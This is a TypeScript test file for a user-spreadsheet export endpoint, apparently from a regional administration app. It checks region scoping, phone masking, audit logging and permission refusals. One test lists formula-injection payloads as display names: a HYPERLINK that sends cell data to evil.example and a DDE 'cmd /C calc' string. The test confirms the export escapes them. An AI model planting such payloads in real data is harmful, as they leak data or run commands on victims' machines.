import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';
import { personalNumbersIn } from '../../testing/personal-numbers.ts';
import { buildUser, PLACES } from '../../testing/factories.ts';

async function readSheet(body: Buffer): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.worksheets[0]?.eachRow((row) => rows.push((row.values as unknown[]).slice(1).map((v) => String(v ?? ''))));
  return rows;
}

describe('GET /api/users/export.xlsx', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
    await buildUser(t.ctx, { username: 'wq.exporter', regionCode: PLACES.wangqiao, roles: ['official'] });
    await buildUser(t.ctx, { username: 'qj.phone', regionCode: PLACES.qujia, roles: ['village_cadre'], phone: '13812345678' });
    await buildUser(t.ctx, { username: 'wj.foreign', regionCode: PLACES.wangjia, roles: ['village_cadre'] });
    await buildUser(t.ctx, { username: 'qj.reader', regionCode: PLACES.qujia, roles: ['village_cadre'] });
  });
  afterAll(() => t.close());

  it('exports the users of the actor’s town, phones masked, and audits the export', async () => {
    const client = await t.login('wq.exporter');
    const res = await client.request('GET', '/api/users/export.xlsx');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const rows = await readSheet(res.rawPayload);
    expect(rows[0]).toEqual(['用户名', '姓名', '所属区划', '区划代码', '角色', '手机号', '状态', '最后登录', '创建时间']);
    const usernames = rows.slice(1).map((r) => r[0]);
    expect(usernames).toContain('qj.phone');
    expect(usernames).not.toContain('wj.foreign');
    const phoneRow = rows.find((r) => r[0] === 'qj.phone');
    expect(phoneRow?.[5]).toBe('138****5678');
    expect(personalNumbersIn(rows.flat().join(' '))).toEqual([]);
    const entry = await t.ctx.db.selectFrom('audit_log').selectAll().where('action', '=', 'export.users').executeTakeFirst();
    expect(entry?.actor_name).toBe('wq.exporter');
    expect(entry?.object_region).toBe(PLACES.wangqiao);
  });

  it('writes a name that a spreadsheet would run as a formula as text, behind an apostrophe (issue 15 finding 15)', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A2,"点此查看")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3', '\t=1+1', '＝1+1'];
    for (const [i, name] of names.entries()) {
      const user = await buildUser(t.ctx, { username: `qj.formula${i}`, regionCode: PLACES.qujia, roles: ['village_cadre'] });
      await t.ctx.db.updateTable('users').set({ display_name: name }).where('id', '=', user.id).execute();
    }
    const res = await (await t.login('wq.exporter')).request('GET', '/api/users/export.xlsx');
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells = new Map<string, ExcelJS.Cell>();
    workbook.worksheets[0]?.eachRow((row) => cells.set(String(row.getCell(1).value), row.getCell(2)));
    for (const [i, name] of names.entries()) {
      const cell = cells.get(`qj.formula${i}`);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(`'${name}`);
    }
    // An ordinary name is left as it was.
    expect(cells.get('qj.phone')?.value).toBe('测试qj.phone');
  });

  it('refuses a village cadre (no export permission) and a filter outside the actor’s region', async () => {
    const cadre = await t.login('qj.reader');
    expect((await cadre.request('GET', '/api/users/export.xlsx')).statusCode).toBe(403);
    const official = await t.login('wq.exporter');
    expect((await official.request('GET', `/api/users/export.xlsx?regionCode=${PLACES.anwu}`)).statusCode).toBe(404);
  });
});
